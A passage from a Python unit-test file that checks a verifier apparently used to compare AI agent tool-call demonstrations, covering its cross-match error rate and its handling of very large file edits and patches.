        assert {verdict.reason for verdict in verdicts} <= {"match", "not_applicable"}
        mine = [one for one, verdict in zip(candidates, verdicts, strict=True) if verdict.value is not None]
        accepted += len(mine)
        for one, other in itertools.permutations(mine, 2):
            theirs, ours = ([(call.name, call.arguments) for call in x.demonstration.calls] for x in (one, other))
            if theirs != ours:
                crossed += 1
                wrong += VERIFIER(one, other.demonstration).value == 1.0
    assert accepted >= 141
    assert wrong <= 0.01 * crossed, (wrong, crossed)  # views that show the demonstrated lines, too


def test_huge_inputs_are_bounded():
    lines = "".join(f"    x{at} = {at}\n" for at in range(30_000))
    mixed = "".join(f"    x{at} = {at * 7 % 30_000}\n" for at in range(30_000))
    assert judge(editor("create", file_text=lines), editor("create", file_text=mixed))[0] == 0.0
    assert judge(swap("a", "b"), swap("\n" * 10**6, " " * 10**6))[0] == 0.0
    assert (
        judge(
            EDITS["codex"][0],
            patch("*** Begin Patch\n*** Update File: /w/a.py\n" + "@@\n-x\n" * 10**5 + "*** End Patch"),
        )[0]
        == 0.0
    )
